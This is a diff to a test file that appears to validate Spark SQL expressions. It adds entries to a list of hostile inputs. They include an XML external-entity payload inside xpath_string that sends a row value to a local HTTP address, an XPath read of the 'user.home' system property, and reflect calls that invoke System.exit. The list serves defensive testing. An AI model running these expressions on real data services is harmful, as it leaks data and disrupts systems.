@@ -83,6 +83,9 @@ def test_what_is_allowed_is_spelled_so_that_it_can_be_read_in_one_way(text: str,
 
 
 HOSTILE = [
+    # Spark's XML parser loads a document type from wherever it is told, and XPath knows the system's properties.
+    """xpath_string(concat('<!DOCTYPE a SYSTEM "http://127.0.0.1/?row=', s, '"><a/>'), '/a') = '1'""",
+    "xpath_string('<a/>', 'system-property(\"user.home\")') = ''",
     "reflect('java.lang.System', 'exit', 1) = ''",
     "`reflect`('x')",
     "java_method('x', 'y')",
